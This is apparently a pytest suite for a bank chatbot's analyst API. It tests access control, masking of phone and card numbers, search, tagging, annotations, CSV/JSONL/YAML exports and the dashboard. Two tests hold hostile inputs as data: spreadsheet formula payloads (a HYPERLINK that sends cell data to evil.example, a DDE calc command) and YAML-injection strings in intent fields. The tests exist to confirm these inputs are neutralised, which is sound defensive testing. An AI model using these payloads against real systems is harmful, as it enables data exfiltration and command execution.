"""The analyst API on the real app and database (SQLite and PostgreSQL): only analysts (and
admins) read it, everything is masked, filters and search find what an analyst asks for, tags
and annotations stick, and the exports parse back."""

from __future__ import annotations

import csv
import io
import json
import time
import uuid

import pytest
import yaml

from bot.transcripts import service as transcripts

PHONE = "13812345678"
CARD = "6222021234567890123"


def user(text, intent, confidence, when, channel="app", customer="C-2001"):
    return {
        "event": "user",
        "text": text,
        "timestamp": when,
        "parse_data": {"text": text, "intent": {"name": intent, "confidence": confidence}, "entities": []},
        "metadata": {"channel": channel, "customer_id": customer},
    }


def bot(text, when, utter=None, agent=None):
    metadata = {"agent": agent} if agent else {"utter_action": utter} if utter else {}
    return {"event": "bot", "text": text, "timestamp": when, "data": {}, "metadata": metadata}


@pytest.fixture
def seeded(staff_factory):
    """Three conversations stored by the consumer from Rasa broker rows; returns their ids."""
    tag = uuid.uuid4().hex[:6]
    fee, login, rate = f"fee-{tag}", f"login-{tag}", f"rate-{tag}"
    now = time.time()
    events = [
        (fee, user("信用卡年費怎麼收", "faq_card_annual_fee", 0.93, now - 7200, channel="web")),
        (fee, {"event": "action", "name": "action_answer_faq", "timestamp": now - 7199}),
        (fee, bot("本行信用卡首年免年费。", now - 7198)),
        (login, user(f"我的手机{PHONE}登录不了手机银行", "faq_app_login", 0.41, now - 3600)),
        (login, {"event": "action", "name": "action_default_fallback", "timestamp": now - 3599}),
        (login, bot("抱歉，我没有理解您的意思。", now - 3598, utter="utter_default")),
        (login, user("转人工", "request_human", 0.98, now - 3500)),
        (login, {"event": "pause", "timestamp": now - 3499}),
        (login, bot(f"您好，我是人工客服，请不要发送卡号{CARD}", now - 3400, agent="小王")),
        (rate, user("大额存单利率是多少", "faq_deposit_rate", 0.88, now - 60, channel="web")),
        (rate, {"event": "action", "name": "utter_deposit_rate", "timestamp": now - 59}),
        (rate, bot("三年期大额存单年利率以当日公布为准。", now - 58, utter="utter_deposit_rate")),
    ]
    base = int(now * 1000) % 10**9
    rows = [
        (base + i, sender, json.dumps(event, ensure_ascii=False)) for i, (sender, event) in enumerate(events)
    ]
    with staff_factory.session() as session:
        transcripts.ingest_rasa_events(session, rows)
    return {"fee": fee, "login": login, "rate": rate, "tag": tag}


@pytest.fixture
def analyst(staff_factory):
    return staff_factory.headers("analyst")


def ids(response):
    assert response.status_code == 200, response.text
    return {item["conversation_id"] for item in response.json()["items"]}


def test_only_analysts_read_the_analyst_api(client, staff_factory, seeded):
    assert client.get("/api/analyst/conversations").status_code == 401
    assert client.get("/api/analyst/dashboard").status_code == 401
    agent = staff_factory.headers("agent")
    for path in (
        "/api/analyst/conversations",
        f"/api/analyst/conversations/{seeded['login']}",
        "/api/analyst/dashboard",
        "/api/analyst/export/conversations.csv",
    ):
        response = client.get(path, headers=agent)
        assert response.status_code == 403, path
        assert response.json()["error"]["message"]  # a Chinese explanation for the page
    assert (
        client.post(
            f"/api/analyst/conversations/{seeded['login']}/tags",
            json={"tag": "x"},
            headers=staff_factory.headers("supervisor"),
        ).status_code
        == 403
    )


def test_filters_and_segment_aware_search_find_the_right_conversations(client, analyst, seeded):
    mine = {seeded["fee"], seeded["login"], seeded["rate"]}

    def find(**params):
        return (
            ids(
                client.get("/api/analyst/conversations", params={"page_size": 100, **params}, headers=analyst)
            )
            & mine
        )

    assert find() == mine
    assert find(max_confidence=0.5) == {seeded["login"]}
    assert find(fallback="true") == {seeded["login"]}
    assert find(handed_off="true") == {seeded["login"]}
    assert find(handed_off="false", channel="web") == {seeded["fee"], seeded["rate"]}
    assert find(intent="request_human") == {seeded["login"]}
    # Segment-aware: 信用卡 matches the traditional-script 信用卡年費 (normalised), 年费 too;
    # 手机银行 matches as a word; 存单利率 needs both words in one message.
    assert find(q="信用卡") == {seeded["fee"]}
    assert find(q="年费") == {seeded["fee"]}
    assert find(q="手机银行 登录") == {seeded["login"]}
    assert find(q="存单利率") == {seeded["rate"]}
    assert find(q="利率 登录") == set()
    # Search never reveals the unmasked number: it is not in the index.
    assert find(q=PHONE) == set()

    page = client.get(
        "/api/analyst/conversations", params={"q": "登录", "sort": "min_confidence"}, headers=analyst
    ).json()
    [item] = [i for i in page["items"] if i["conversation_id"] == seeded["login"]]
    assert item["first_customer_text"] == "我的手机138****5678登录不了手机银行"
    assert (item["fallback_count"], item["handed_off"], item["min_confidence"]) == (1, True, 0.41)
    assert item["intents"] == ["faq_app_login", "request_human"]
    assert page["total"] >= 1 and page["page"] == 1


def test_a_transcript_is_masked_with_intents_events_tags_and_annotations(client, analyst, seeded):
    conversation = seeded["login"]
    response = client.get(f"/api/analyst/conversations/{conversation}", headers=analyst)
    assert response.status_code == 200
    assert PHONE not in response.text and CARD not in response.text
    body = response.json()
    senders = [m["sender"] for m in body["messages"]]
    assert senders == ["customer", "assistant", "customer", "agent"]
    first = body["messages"][0]
    assert (first["intent"], first["confidence"], first["fallback"]) == ("faq_app_login", 0.41, True)
    assert body["messages"][3]["agent_name"] == "小王"
    assert [e["kind"] for e in body["events"]] == ["handoff_requested"]

    # Tags: added (twice is once), listed, filtered on, removed.
    url = f"/api/analyst/conversations/{conversation}/tags"
    assert client.post(url, json={"tag": "登录问题"}, headers=analyst).json() == {"tags": ["登录问题"]}
    assert client.put(f"{url}/登录问题", headers=analyst).json() == {"tags": ["登录问题"]}
    assert {"tag": "登录问题", "count": 1} in client.get("/api/analyst/tags", headers=analyst).json()["items"]
    assert ids(client.get("/api/analyst/conversations", params={"tag": "登录问题"}, headers=analyst)) == {
        conversation
    }
    assert client.delete(f"{url}/登录问题", headers=analyst).json() == {"tags": []}
    assert conversation not in ids(
        client.get("/api/analyst/conversations", params={"tag": "登录问题"}, headers=analyst)
    )

    # Annotate the misunderstood message; it shows on the transcript and in the NLU export.
    note = client.post(
        f"/api/analyst/conversations/{conversation}/annotations",
        json={"message_id": first["id"], "correct_intent": "app_login", "note": "登录失败"},
        headers=analyst,
    )
    # An FAQ topic's id is read as its retrieval intent
    assert note.status_code == 201 and note.json()["correct_intent"] == "faq/app_login"
    again = client.get(f"/api/analyst/conversations/{conversation}", headers=analyst).json()
    assert again["messages"][0]["annotations"][0]["note"] == "登录失败"
    bad = client.post(
        f"/api/analyst/conversations/{conversation}/annotations",
        json={"message_id": first["id"]},
        headers=analyst,
    )
    assert bad.status_code == 422
    assert client.get("/api/analyst/conversations/nope", headers=analyst).status_code == 404

    nlu = client.get("/api/analyst/export/nlu-corrections", headers=analyst)
    assert nlu.status_code == 200 and PHONE not in nlu.text
    data = yaml.safe_load(nlu.text)
    examples = {item["intent"]: item["examples"] for item in data["nlu"]}
    assert "- 我的手机138****5678登录不了手机银行" in examples["faq/app_login"]

    story = client.get(f"/api/analyst/conversations/{conversation}/story", headers=analyst)
    assert story.status_code == 200 and "attachment" in story.headers["content-disposition"]
    steps = yaml.safe_load(story.text)["stories"][0]["steps"]
    assert steps[0] == {"user": "我的手机138****5678登录不了手机银行\n", "intent": "faq/app_login"}
    assert {"action": "utter_default"} in steps and steps[-1]["intent"] == "request_human"


def test_a_correction_must_name_a_known_intent_or_faq_topic(client, analyst, seeded, staff_factory):
    conversation = seeded["login"]
    first = client.get(f"/api/analyst/conversations/{conversation}", headers=analyst).json()["messages"][0]
    url = f"/api/analyst/conversations/{conversation}/annotations"
    for bad in (
        "faq_app_login_failed",
        "faq/no_such_topic",
        "faq",
        "nlu_fallback",
        "chitchat/nonsense",
        "greet\n- intent: evil\n  examples: |\n    - x",
        "request_human: x",
    ):
        refused = client.post(url, json={"message_id": first["id"], "correct_intent": bad}, headers=analyst)
        assert refused.status_code == 422, bad
        assert "已知意图或常见问题主题" in refused.json()["error"]["message"]
    for good, stored in (
        ("request_human", "request_human"),
        ("faq/card_lost", "faq/card_lost"),
        (" card_lost ", "faq/card_lost"),
    ):
        saved = client.post(url, json={"message_id": first["id"], "correct_intent": good}, headers=analyst)
        assert saved.status_code == 201 and saved.json()["correct_intent"] == stored
    # A row stored before corrections were checked never reaches the exports raw
    from bot.db import utcnow
    from bot.transcripts.models import TranscriptAnnotation

    with staff_factory.session() as session:
        session.add(
            TranscriptAnnotation(
                message_id=first["id"],
                conversation_id=conversation,
                author="legacy",
                correct_intent="x\n- intent: injected",
                created_at=utcnow(),
            )
        )
    nlu = client.get("/api/analyst/export/nlu-corrections", headers=analyst).text
    assert "injected" not in nlu
    intents = {item["intent"] for item in yaml.safe_load(nlu)["nlu"]}
    assert {"request_human", "faq/card_lost"} <= intents
    story = client.get(f"/api/analyst/conversations/{conversation}/story", headers=analyst).text
    assert "injected" not in story and yaml.safe_load(story)["stories"][0]["steps"]


def test_exports_stream_masked_csv_and_jsonl_that_parse_back(client, analyst, seeded):
    params = {"q": "登录"}
    response = client.get("/api/analyst/export/conversations.csv", params=params, headers=analyst)
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert PHONE not in response.text and CARD not in response.text
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    mine = [row for row in rows if row["conversation_id"] == seeded["login"]]
    assert [row["seq"] for row in mine] == ["1", "2", "3", "4"]
    assert mine[0]["intent"] == "faq_app_login" and mine[0]["fallback"] == "true"

    response = client.get("/api/analyst/export/conversations.jsonl", params=params, headers=analyst)
    assert response.status_code == 200
    lines = [json.loads(line) for line in response.text.splitlines()]
    [record] = [line for line in lines if line["conversation"]["conversation_id"] == seeded["login"]]
    assert [m["sender"] for m in record["messages"]] == ["customer", "assistant", "customer", "agent"]
    assert record["messages"][3]["text"] == "您好，我是人工客服，请不要发送卡号****0123"


def test_the_csv_export_never_hands_a_formula_to_a_spreadsheet(client, analyst, staff_factory):
    conversation = f"formula-{uuid.uuid4().hex[:6]}"
    now = time.time()
    attacks = [
        '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        '＝HYPERLINK("http://evil.example")',
        "您好=正常文字",
    ]
    events = [
        (conversation, user(text, "nlu_fallback", 0.3, now - 100 + i)) for i, text in enumerate(attacks)
    ]
    events.append((conversation, bot("=1+1", now - 50, agent="=cmd")))
    base = int(now * 1000) % 10**9 + 500_000
    with staff_factory.session() as session:
        transcripts.ingest_rasa_events(
            session,
            [
                (base + i, sender, json.dumps(event, ensure_ascii=False))
                for i, (sender, event) in enumerate(events)
            ],
        )
    response = client.get("/api/analyst/export/conversations.csv", headers=analyst)
    rows = [
        row
        for row in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
        if row["conversation_id"] == conversation
    ]
    assert len(rows) == len(events)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), (column, cell)
    texts = [row["text"] for row in rows]
    assert texts[0] == "'" + attacks[0] and texts[2] == "'-2+3"  # shown as typed, after the quote
    assert "您好=正常文字" in texts, "ordinary text is left alone"
    assert rows[-1]["agent_name"] == "'=cmd"


def test_the_dashboard_counts_and_links_each_figure_to_its_conversations(client, analyst, seeded):
    response = client.get("/api/analyst/dashboard", headers=analyst)
    assert response.status_code == 200
    body = response.json()
    totals = body["totals"]
    assert totals["total_conversations"] >= 3
    # Every conversation with a customer message has exactly one outcome.
    assert (
        totals["contained"] + totals["handed_off"] + totals["unresolved"] == totals["customer_conversations"]
    )
    assert 0 < totals["handoff_rate"] < 1 and totals["filters"]["handed_off"] == {"outcome": "handed_off"}
    assert "100%" in body["definitions"]["unresolved_rate"]
    for name in ("contained", "handed_off", "unresolved"):
        listed = client.get(
            "/api/analyst/conversations", params=totals["filters"][name], headers=analyst
        ).json()
        assert listed["total"] == totals[name]
    intents = {entry["intent"]: entry for entry in body["top_intents"]}
    assert intents["request_human"]["filter"] == {"intent": "request_human"}
    assert intents["request_human"]["label"] == "转人工"
    # Each figure's filter lists exactly the conversations it counts.
    for entry in body["daily"]:
        listed = client.get("/api/analyst/conversations", params=entry["filter"], headers=analyst).json()
        assert listed["total"] == entry["count"]
    group = next(g for g in body["unrecognised"] if "登录" in g["phrase"])
    assert PHONE not in json.dumps(body, ensure_ascii=False)
    assert seeded["login"] in ids(
        client.get("/api/analyst/conversations", params=group["filter"], headers=analyst)
    )
    assert body["satisfaction"]["distribution"][4]["filter"] == {"satisfaction": "5"}


def test_analysts_see_the_entities_of_each_turn_and_filter_conversations_by_them(
    client, analyst, staff_factory, parse_entities
):
    """Entities as the NLU finds them (the real pipeline) travel through the broker into the store."""
    tag = uuid.uuid4().hex[:6]
    icbc, ccb, fee = f"icbc-{tag}", f"ccb-{tag}", f"fee-{tag}"
    now = time.time()
    messages = [
        (icbc, "上周五手机银行转了5000元到工商银行没到账", "faq"),
        (ccb, "转到建行要多久", "faq"),
        (fee, "年费怎么收", "faq"),
    ]
    rows = []
    for number, (conversation, text, intent) in enumerate(messages):
        event = user(text, intent, 0.9, now - 100 + number)
        event["parse_data"]["entities"] = parse_entities(text)
        rows.append(
            (int(now * 1000) % 10**9 + 500 + number, conversation, json.dumps(event, ensure_ascii=False))
        )
    with staff_factory.session() as session:
        transcripts.ingest_rasa_events(session, rows)

    banks = ids(client.get("/api/analyst/conversations", params={"entity": "BANK"}, headers=analyst))
    assert {icbc, ccb} <= banks and fee not in banks
    named = ids(
        client.get(
            "/api/analyst/conversations",
            params={"entity": "BANK", "entity_value": "中国工商银行"},
            headers=analyst,
        )
    )
    assert icbc in named and ccb not in named
    amounts = ids(client.get("/api/analyst/conversations", params={"entity": "AMOUNT"}, headers=analyst))
    assert icbc in amounts and ccb not in amounts
    assert (
        client.get("/api/analyst/conversations", params={"entity": "bank"}, headers=analyst).status_code
        == 422
    )

    values = client.get("/api/analyst/entities", headers=analyst).json()["items"]
    assert {"entity": "BANK", "label": "银行", "value": "中国建设银行"} in [
        {k: item[k] for k in ("entity", "label", "value")} for item in values
    ]
    assert client.get("/api/analyst/entities", headers=staff_factory.headers("agent")).status_code == 403

    detail = client.get(f"/api/analyst/conversations/{icbc}", headers=analyst).json()
    chips = [(e["label"], e["display"], e["text"]) for e in detail["messages"][0]["entities"]]
    assert chips[1:] == [
        ("渠道", "手机银行", "手机银行"),
        ("金额", "5,000元", "5000元"),
        ("银行", "中国工商银行", "工商银行"),
    ]
    assert chips[0][0] == "日期" and chips[0][2] == "上周五"
